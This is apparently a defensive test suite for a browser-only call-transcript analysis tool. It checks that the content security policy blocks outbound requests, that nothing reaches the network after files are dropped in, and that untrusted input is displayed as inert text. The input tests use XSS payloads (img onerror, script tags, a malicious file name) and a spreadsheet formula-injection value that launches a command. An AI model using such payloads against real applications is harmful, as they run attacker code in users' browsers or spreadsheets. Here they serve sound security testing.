// Nothing leaves: the policy holds in the page and in the worker, no request follows a drop, and text stays text.

import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { call, drop, fetched, finished, folderWith, ndjson, openSample, rows } from "./support/browser.ts";
import { serveElsewhere, type Site } from "./support/serve.ts";
import { hosted } from "./support/stage.ts";
import { xlsx } from "./support/xlsx.ts";

const POLICY =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data: blob:; " +
  "media-src blob:; connect-src 'self'; worker-src 'self' blob:; manifest-src 'self'; form-action 'none'; " +
  "base-uri 'none'";

const stage = hosted();
let elsewhere: Site;
before(async () => void (elsewhere = await serveElsewhere()));
after(() => elsewhere.close());

/** Tries to send something out; runs in the page or in the worker. */
async function tryToSend(address: string): Promise<{ outcome: string; violated: string }> {
  const violation = new Promise<string>((resolve) => {
    addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
    setTimeout(() => resolve("none"), 3000);
  });
  const outcome = await fetch(address, { method: "POST", body: "a transcript" }).then(
    (response) => response.text(),
    (error: unknown) => (error instanceof Error ? error.name : "refused"),
  );
  return { outcome, violated: await violation };
}

describe("the policy", () => {
  it("is the one that is promised, stands before any script, and is shown to whoever asks", async () => {
    const { page, close } = await stage.open();
    assert.equal(await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content"), POLICY);
    const order = await page.evaluate(() =>
      [...document.head.querySelectorAll("meta[http-equiv], script, style, link[rel=stylesheet]")].map(
        ({ tagName }) => tagName,
      ),
    );
    assert.equal(order[0], "META");
    assert.ok(!order.includes("STYLE"));
    await page.getByText("查看策略原文").click();
    assert.equal((await page.locator(".policy code").allTextContents()).join("; "), POLICY);
    await close();
  });

  it("refuses a request to another host, in the page and inside the worker; the other host sees nothing", async () => {
    const reachable = await fetch(elsewhere.address, { method: "POST", body: "x" }).then((response) => response.text());
    assert.equal(reachable, "got out", "the other host would have answered");
    elsewhere.seen.length = 0;

    const { page, close } = await stage.open();
    await openSample(page);
    assert.deepEqual(await page.evaluate(tryToSend, elsewhere.address), {
      outcome: "TypeError",
      violated: "connect-src",
    });
    const [worker, ...others] = page.workers();
    assert.ok(worker && others.length === 0, "one worker");
    assert.match(worker.url(), /^blob:/);
    assert.deepEqual(await worker.evaluate(tryToSend, elsewhere.address), {
      outcome: "TypeError",
      violated: "connect-src",
    });
    await page.evaluate((address) => {
      navigator.sendBeacon(address, "a transcript");
      new Image().src = `${address}pixel.png`;
    }, elsewhere.address);
    await page.waitForTimeout(300);
    assert.deepEqual(elsewhere.seen, []);
    await close();
  });
});

describe("after a drop", () => {
  it("asks the network for nothing: reading, opening calls, problems, the sample, the other language", async () => {
    const folder = await folderWith({
      "week.ndjson": `${ndjson(call("n-1", "您好", "你好"), call("n-2", "再见", "嗯"))}{broken\n`,
      "chat.txt": "客服：您好\n客户：你好\n",
    });
    const { page, errors, close } = await stage.open();
    await fetched(page);
    const asked: string[] = [];
    page.context().on("request", (request) => {
      if (!request.url().startsWith("blob:")) asked.push(`${request.method()} ${request.url()}`);
    });
    const before = stage.site.seen.splice(0);
    assert.ok(before.some(({ path }) => path.endsWith(".wasm")), "the engine came with the page");
    assert.ok(before.every(({ method, bodyBytes }) => method === "GET" && bodyBytes === 0));
    await drop(page, [folder]);
    await finished(page);
    await page.getByRole("button", { name: "打开通话 n-1" }).click();
    await page.locator(".turn").first().waitFor();
    await page.getByRole("button", { name: "Switch to English" }).click();
    await page.getByRole("heading", { name: "Findings" }).waitFor();
    await page.keyboard.press("Escape");
    await page.locator(".figure-link").click();
    await page.getByRole("button", { name: "Wusheng" }).click();
    await openSample(page);
    // Every other screen, with the modules that it needs; exports go to the reader's own disk.
    await page.keyboard.press("3");
    await page.locator(".rule-detail").waitFor();
    await page.keyboard.press("4");
    await page.locator(".trends .chart svg").first().waitFor();
    await page.keyboard.press("5");
    await page.locator(".topic-detail").waitFor();
    await page.keyboard.press("6");
    await page.locator(".paper").waitFor();
    await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: /^Export a workbook/ }).click()]);
    await page.getByRole("button", { name: "Settings and data" }).first().click();
    await page.getByRole("status", { name: "Masked" }).filter({ hasText: "[" }).waitFor();
    await drop(page, [await folderWith({ "t.xlsx": xlsx({ s: [["id", "dialogue"], ["1", "客服：您好 客户：查话费"]] }) })]);
    await finished(page);
    assert.deepEqual(asked, []);
    assert.deepEqual(stage.site.seen, []);
    assert.deepEqual(errors, []);
    await close();
  });

  it("works with the network gone", async () => {
    const { page, close } = await stage.open();
    await fetched(page);
    await page.context().setOffline(true);
    await openSample(page);
    await rows(page).first().click();
    await page.locator(".turn").first().waitFor();
    await close();
  });
});

describe("text from outside", () => {
  it("stays text wherever it is shown", async () => {
    const evil = (what: string) => `<img src=x onerror="document.body.dataset.ran='${what}'"><script>1</script>`;
    const folder = await folderWith({
      "evil.ndjson": ndjson(
        { ...call(evil("id"), `您好${evil("agent")}`, `投诉${evil("customer")}`, "嗯", "再见"), agent: evil("name") },
        { id: "e-2", turns: [{ role: evil("role"), text: "您好" }] },
      ),
      "<img src=x onerror=alert(1)>.txt": "",
      "tickets.csv": `工单号,建单时间,类别,满意度\n${evil("ticket").replaceAll(",", "")},2026-01-01 10:00,"${evil("kind").replaceAll('"', '""')}",满意\n`,
    });
    const { page, errors, close } = await stage.open();
    await drop(page, [folder]);
    await finished(page);
    await page.getByRole("button", { name: evil("id") }).click();
    await page.locator(".turn").first().waitFor();
    assert.equal(await page.locator("#turn-0 .turn-text").evaluate((text) => text.textContent?.includes("<img")), true);
    await page.keyboard.press("Escape");
    await page.locator(".figure-link").click();
    await page.getByRole("table").waitFor();
    assert.match((await page.locator(".where-file").allTextContents()).join(), /<img src=x onerror=alert\(1\)>/);
    // A pack is somebody else's text, too.
    const pack = `schema = 1\nid = "evil"\nversion = "1"\ntitle = ${JSON.stringify(evil("pack"))}\nextends = ["telecom-zh"]\n\n[change.greeting]\ntitle = ${JSON.stringify(evil("rule"))}\nwhy = ${JSON.stringify(evil("why"))}\n`;
    await page.keyboard.press("3");
    await page.locator(".rules-head input[type=file]").setInputFiles({ name: "evil.toml", mimeType: "text/plain", buffer: Buffer.from(pack) });
    await page.locator(".rule-name", { hasText: "<img" }).first().waitFor();
    await page.getByRole("button", { name: "保存并启用" }).click();
    await page.locator(".rules-head", { hasText: "evil" }).waitFor();
    await page.keyboard.press("2");
    await page.getByRole("button", { name: evil("id") }).click();
    await page.locator(".finding-title", { hasText: "<img" }).first().waitFor();
    await page.keyboard.press("4");
    await page.locator("#ticket-figures").waitFor();
    await page.keyboard.press("6");
    await page.locator(".paper").waitFor();
    const columns = { [`<b onclick=1>`]: [[evil("heading"), "乙"], [evil("cell"), "=cmd|' /C calc'!A0"]] };
    const labels = { segments: [0, 1].map((at) => ({ start: at, end: at + 1, speaker: evil(`label${at}`), text: evil("words") })) };
    for (const [name, content, shown] of [["a.xlsx", xlsx(columns), ".sheet-table"], ["b.json", JSON.stringify(labels), ".speakers"]] as const) {
      await drop(page, [await folderWith({ [name]: content })]);
      await page.locator(shown).filter({ hasText: "<img" }).waitFor();
    }
    assert.equal(await page.locator("#page img, #page script").count(), 0);
    assert.equal(await page.locator("body").getAttribute("data-ran"), null);
    assert.deepEqual(errors, []);
    await close();
  });
});
